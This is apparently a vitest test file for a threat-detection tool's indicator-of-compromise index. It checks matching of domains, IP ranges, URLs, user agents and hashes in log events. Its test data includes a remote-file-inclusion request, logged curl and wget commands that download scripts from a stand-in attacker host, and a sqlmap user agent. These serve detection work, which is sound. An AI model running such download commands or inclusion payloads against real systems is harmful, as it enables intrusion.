import { describe, expect, it } from 'vitest'
import type { EventFieldValues } from '../../../src-main/common/event'
import { IocIndex } from '../../../src-main/core/detect/ioc/iocIndex'
import { parseIocList } from '../../../src-main/core/detect/ioc/iocList'
import { EventFactory } from './memoryEvents'

const factory = new EventFactory()

function indexOf(listText: string): IocIndex {
  const { entries, rejected } = parseIocList(listText, 'list')
  expect(rejected).toEqual([])
  return new IocIndex(entries)
}

/** Which indicator values matched, and in which field, for an event with these fields. */
function hits(index: IocIndex, fields: EventFieldValues, extra?: Record<string, string | number>): string[] {
  return index
    .match(factory.event('2025-12-10T10:00:00Z', fields, extra))
    .map((match) => `${match.field} ${match.indicator.value}`)
}

describe('IocIndex', () => {
  it('matches a domain and all its subdomains, and nothing that merely ends in the same letters', () => {
    const index = indexOf('example.com')
    const referrer = (url: string): string[] => hits(index, { 'http.request.referrer': url })
    expect(referrer('http://example.com/')).toEqual(['http.request.referrer example.com'])
    expect(referrer('https://a.b.EXAMPLE.com./x')).toEqual(['http.request.referrer example.com'])
    expect(referrer('http://evilexample.com/')).toEqual([])
    expect(referrer('http://example.com.evil.net/')).toEqual([])
    expect(referrer('http://example.co/')).toEqual([])
  })

  it('reports every listed level when both a domain and its subdomain are listed', () => {
    const index = indexOf('example.com\ncdn.example.com')
    expect(hits(index, { 'url.original': 'http://img.cdn.example.com/a.png' }).sort()).toEqual([
      'url.original cdn.example.com',
      'url.original example.com'
    ])
  })

  it('matches IPv4 CIDR ranges exactly up to their boundaries', () => {
    const index = indexOf('198.51.100.0/24\n203.0.113.128/25\n10.0.0.0/8')
    const source = (ip: string): string[] => hits(index, { 'source.ip': ip })
    expect(source('198.51.100.0')).toEqual(['source.ip 198.51.100.0/24'])
    expect(source('198.51.100.255')).toEqual(['source.ip 198.51.100.0/24'])
    expect(source('198.51.101.0')).toEqual([])
    expect(source('198.51.99.255')).toEqual([])
    expect(source('203.0.113.127')).toEqual([])
    expect(source('203.0.113.128')).toEqual(['source.ip 203.0.113.128/25'])
    expect(source('10.255.255.255')).toEqual(['source.ip 10.0.0.0/8'])
    expect(source('11.0.0.0')).toEqual([])
  })

  it('matches IPv6 CIDR ranges exactly up to their boundaries, across a 16-bit group', () => {
    const index = indexOf('2001:db8:abcd:1200::/56\n2001:db8::/127')
    const destination = (ip: string): string[] => hits(index, { 'destination.ip': ip })
    expect(destination('2001:db8:abcd:1200::')).toEqual(['destination.ip 2001:db8:abcd:1200::/56'])
    expect(destination('2001:db8:abcd:12ff:ffff:ffff:ffff:ffff')).toEqual([
      'destination.ip 2001:db8:abcd:1200::/56'
    ])
    expect(destination('2001:db8:abcd:1300::')).toEqual([])
    expect(destination('2001:db8:abcd:11ff:ffff:ffff:ffff:ffff')).toEqual([])
    expect(destination('2001:db8::1')).toEqual(['destination.ip 2001:db8::/127'])
    expect(destination('2001:db8::2')).toEqual([])
  })

  it('treats IPv4-mapped IPv6 addresses as the IPv4 address they carry, in lists and in events', () => {
    const index = indexOf('203.0.113.7\n::ffff:198.51.100.0/120\n2001:db8::1')
    expect(hits(index, { 'source.ip': '::ffff:203.0.113.7' })).toEqual(['source.ip 203.0.113.7'])
    expect(hits(index, { 'source.ip': '::FFFF:cb00:7107' })).toEqual(['source.ip 203.0.113.7'])
    expect(hits(index, { 'source.ip': '198.51.100.200' })).toEqual(['source.ip 198.51.100.0/24'])
    expect(hits(index, { 'source.ip': '2001:0db8:0:0:0:0:0:0001' })).toEqual(['source.ip 2001:db8::1'])
    expect(hits(index, { 'source.ip': '203.0.113.8' })).toEqual([])
  })

  it('matches URLs after normalisation and checks their host against addresses and domains', () => {
    const index = indexOf('http://evil.example/drop.sh\n203.0.113.7\nhttp://[2001:db8::5]/x')
    expect(hits(index, { 'url.original': 'HTTPS://EVIL.example:443/drop.sh#top' })).toEqual([
      'url.original http://evil.example/drop.sh'
    ])
    expect(hits(index, { 'url.original': 'http://evil.example/drop.sh?v=2' })).toEqual([])
    expect(hits(index, { 'url.original': 'http://evil.example/Drop.sh' })).toEqual([])
    expect(hits(index, { 'http.request.referrer': 'http://203.0.113.7:8080/panel' })).toEqual([
      'http.request.referrer 203.0.113.7'
    ])
    expect(hits(index, { 'url.original': 'http://[2001:0db8::0005]/x' })).toEqual([
      'url.original http://[2001:db8::5]/x'
    ])
    expect(hits(index, { 'url.original': '/drop.sh' })).toEqual([])
  })

  it('finds URLs embedded in a request target (remote file inclusion) and in a logged command line', () => {
    const index = indexOf('http://files.evil.example/shell.txt\nevil.example')
    expect(
      hits(index, { 'url.original': '/index.php?page=http://files.evil.example/shell.txt' }).sort()
    ).toEqual(['url.original evil.example', 'url.original http://files.evil.example/shell.txt'])
    expect(
      hits(index, {
        'url.original': '/index.php?page=http%3A%2F%2Ffiles.evil.example%2Fshell.txt&x=1'
      }).sort()
    ).toEqual(['url.original evil.example', 'url.original http://files.evil.example/shell.txt'])
    expect(
      hits(index, { message: 'COMMAND=/usr/bin/curl -o /tmp/k.sh http://files.evil.example/k.sh' })
    ).toEqual(['message evil.example'])
    expect(hits(index, { message: 'GET /docs/evil.example.html' })).toEqual([])
    expect(hits(index, { 'process.command_line': 'wget -q http://files.evil.example/x' })).toEqual([
      'process.command_line evil.example'
    ])
    expect(hits(index, { 'source.domain': 'Mail.Evil.Example.' })).toEqual(['source.domain evil.example'])
  })

  it('matches user agents case-insensitively and only as a whole', () => {
    const index = indexOf('ua:sqlmap/1.7.2#stable (https://sqlmap.org)')
    expect(hits(index, { 'user_agent.original': 'SQLMap/1.7.2#stable (https://sqlmap.org)' })).toEqual([
      'user_agent.original sqlmap/1.7.2#stable (https://sqlmap.org)'
    ])
    expect(hits(index, { 'user_agent.original': 'sqlmap/1.7.2#stable' })).toEqual([])
  })

  it('finds hashes, domains, URLs and addresses in parser-specific extra fields', () => {
    const sha256 = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'
    const index = indexOf(`${sha256}\nc2.example\n192.0.2.44\nhttp://dl.example/x.exe`)
    const extra = {
      'file.hash.sha256': sha256.toUpperCase(),
      'dns.question.name': 'beacon.C2.example.',
      'related.ip': '192.0.2.44',
      'http.full_url': 'http://dl.example/x.exe',
      'process.pid': 4242,
      note: 'nothing to see at c2 example'
    }
    expect(hits(index, {}, extra)).toEqual([
      `file.hash.sha256 ${sha256}`,
      'dns.question.name c2.example',
      'related.ip 192.0.2.44',
      'http.full_url http://dl.example/x.exe'
    ])
  })

  it('merges one value listed by several lists into one indicator that names them all', () => {
    const first = parseIocList('203.0.113.7,brute force', 'abuse').entries
    const second = parseIocList('203.0.113.7', 'feodo').entries
    const index = new IocIndex([...first, ...second])
    expect(index.indicators).toHaveLength(1)
    const [match] = index.match(factory.event(0, { 'source.ip': '203.0.113.7' }))
    expect(match.indicator.entries.map((entry) => entry.list)).toEqual(['abuse', 'feodo'])
  })

  it('refuses an entry whose value does not fit its type, naming the list', () => {
    expect(() => new IocIndex([{ type: 'cidr', value: '10.0.0.0/40', list: 'stored' }])).toThrow(
      "IOC list 'stored': '10.0.0.0/40' has prefix length 40; IPv4 allows 0–32"
    )
  })
})
